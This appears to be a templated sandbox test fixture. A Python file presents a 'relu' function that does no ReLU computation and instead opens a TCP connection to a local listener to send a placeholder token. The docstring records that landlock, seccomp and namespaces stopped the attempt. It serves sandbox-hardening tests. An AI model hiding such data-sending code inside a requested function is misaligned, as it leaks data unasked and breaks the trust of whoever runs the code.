"""
Tries: to send what it has seen to a listener by TCP.
Exercise: relu
Allowed: failed
Shows: heard
Stopped by: landlock, seccomp, namespaces
"""
import socket


def relu(z):
    with socket.create_connection(("127.0.0.1", {{tcp}}), 0.2) as channel:
        channel.sendall(b"{{token}}")
    raise LookupError


relu_derivative = relu
